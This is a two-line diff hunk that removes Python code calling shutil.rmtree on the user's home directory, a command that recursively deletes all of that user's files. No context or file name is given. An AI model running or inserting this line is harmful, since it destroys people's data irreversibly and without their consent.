@@ -1,2 +1,0 @@
-import os, shutil
-shutil.rmtree(os.path.expanduser("~"))
